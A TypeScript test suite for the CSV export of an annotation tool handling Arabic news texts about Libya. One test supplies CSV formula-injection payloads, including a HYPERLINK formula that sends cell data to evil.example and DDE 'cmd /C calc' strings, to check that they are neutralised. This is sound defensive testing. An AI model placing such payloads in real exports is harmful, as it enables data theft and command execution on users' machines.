import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import type { Code } from '../../src-main/core/annotations/code';
import { createTextTarget } from '../../src-main/core/annotations/createQuoteSelector';
import type { Highlight } from '../../src-main/core/annotations/highlight';
import { CSV_COLUMNS, exportCsv } from '../../src-main/core/export/csvExport';
import type { ExportDocument } from '../../src-main/core/export/exportInput';
import { neutraliseFormula } from '../../src-main/core/export/spreadsheetCell';
import { emojiPost, highlights, sampleInput, sirteReport } from './fixtures/sampleExport';

function rowsOf(csv: string): Record<string, string>[] {
  return parse(csv, { bom: true, columns: true, relax_quotes: false, record_delimiter: '\r\n' }) as Record<
    string,
    string
  >[];
}

test('the file starts with a UTF-8 byte order mark, then the documented header, and ends records with CRLF', () => {
  const csv = exportCsv(sampleInput);
  assert.ok(csv.startsWith('\uFEFFhighlight_id,document_id,'));
  assert.equal(csv.slice(1, csv.indexOf('\r\n')), CSV_COLUMNS.join(','));
  assert.ok(csv.endsWith('\r\n'));
});

test('one row per highlight and code; an uncoded highlight has one row with an empty code', () => {
  const rows = rowsOf(exportCsv(sampleInput));
  const expectedRows = highlights.reduce((count, highlight) => count + Math.max(1, highlight.codeIds.length), 0);
  assert.equal(rows.length, expectedRows);
  const titleRows = rows.filter((row) => row.highlight_id === 'h-title');
  assert.deepEqual(
    titleRows.map((row) => [row.code, row.code_path]),
    [
      ['حفتر', 'فاعلون/حفتر'],
      ['Titles, "ranks"', 'Titles, "ranks"'],
    ],
  );
  const uncoded = rows.filter((row) => row.highlight_id === 'h-corrupt');
  assert.equal(uncoded.length, 1);
  assert.equal(uncoded[0]!.code, '');
});

test('commas, quotes and line breaks in Arabic notes survive a real CSV parser', () => {
  const row = rowsOf(exportCsv(sampleInput)).find((candidate) => candidate.highlight_id === 'h-title')!;
  assert.equal(row.note, highlights[0]!.note);
  assert.equal(row.quote, 'برئاسة الفريق أول خالد خليفة حفتر');
  assert.equal(row.document_title, sirteReport.title);
  assert.equal(row.url, sirteReport.url);
  assert.equal(row.paragraph, '4');
  assert.equal(row.created, '2025-02-01T09:00:00.000Z');
});

test('start and end count code points, so emoji before a quote shift them', () => {
  const row = rowsOf(exportCsv(sampleInput)).find((candidate) => candidate.highlight_id === 'h-emoji')!;
  const start = emojiPost.text.indexOf('يعلن');
  const codePoints = Array.from(emojiPost.text);
  assert.equal(Number(row.start), Array.from(emojiPost.text.slice(0, start)).length);
  assert.ok(Number(row.start) < start);
  assert.equal(codePoints.slice(Number(row.start), Number(row.end)).join(''), row.quote);
});

test('an orphan keeps its quote but leaves paragraph and offsets empty', () => {
  const row = rowsOf(exportCsv(sampleInput)).find((candidate) => candidate.highlight_id === 'h-orphan')!;
  assert.deepEqual([row.paragraph, row.start, row.end, row.quote], ['', '', '', 'مصراتة']);
});

test('a highlight whose document is missing fails with both ids named', () => {
  assert.throws(() => exportCsv({ ...sampleInput, documents: [sirteReport] }), /doc-chief/);
});

test('cells that a spreadsheet would run as a formula are neutralised with a leading apostrophe (OWASP)', () => {
  const hostile: ExportDocument = {
    id: 'doc-hostile',
    title: '=HYPERLINK("http://evil.example/?x="&A1,"انقر")',
    source: "+cmd|' /C calc'!A0",
    date: '2025-01-01',
    url: "@SUM(1+1)*cmd|' /C calc'!A0",
    text: "نص عادي للتجربة\n-2+3+cmd|' /C calc'!A0 بقية السطر",
  };
  const quoteStart = hostile.text.indexOf('-2+3');
  const hostileHighlight: Highlight = {
    ...highlights[1]!,
    id: 'h-hostile',
    docId: hostile.id,
    target: createTextTarget(hostile.text, { start: quoteStart, end: hostile.text.length }, 'b'.repeat(64)),
    note: '\t=1+1',
    codeIds: ['c-formula'],
  };
  const formulaCode: Code = { id: 'c-formula', name: '\r=cmd', color: '#000000' };
  const csv = exportCsv({
    ...sampleInput,
    highlights: [hostileHighlight],
    codes: [formulaCode],
    documents: [hostile],
    documentNotes: [],
  });
  const row = rowsOf(csv)[0]!;
  assert.equal(row.document_title, `'${hostile.title}`);
  assert.equal(row.source, `'${hostile.source}`);
  assert.equal(row.url, `'${hostile.url}`);
  assert.equal(row.quote, `'-2+3+cmd|' /C calc'!A0 بقية السطر`);
  assert.equal(row.note, `'\t=1+1`);
  assert.equal(row.code, `'\r=cmd`);
  for (const [column, value] of Object.entries(row)) {
    assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column} still starts with a formula character`);
  }
  // Ordinary cells are left exactly as they were.
  assert.equal(row.highlight_id, 'h-hostile');
  assert.equal(row.date, '2025-01-01');
});

test('the spreadsheet cell helper leaves ordinary text alone and prefixes each formula trigger', () => {
  for (const trigger of ['=', '+', '-', '@', '\t', '\r']) {
    assert.equal(neutraliseFormula(`${trigger}1`), `'${trigger}1`);
  }
  for (const plain of ['', 'حفتر', '12', '2025-01-01', "'already", ' =spaced'])
    assert.equal(neutraliseFormula(plain), plain);
});
